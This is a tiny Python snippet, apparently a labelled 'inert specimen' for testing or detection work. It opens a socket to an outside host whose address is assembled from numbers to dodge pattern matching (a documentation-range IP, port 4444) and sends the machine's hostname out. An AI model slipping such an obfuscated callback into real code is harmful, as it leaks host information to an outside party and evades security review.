# Inert specimen. Trick: the address is joined from numbers.
import socket

line = socket.socket()
line.connect((".".join(str(n) for n in (203, 0, 113, 7)), 4000 + 444))
line.send(socket.gethostname().encode())
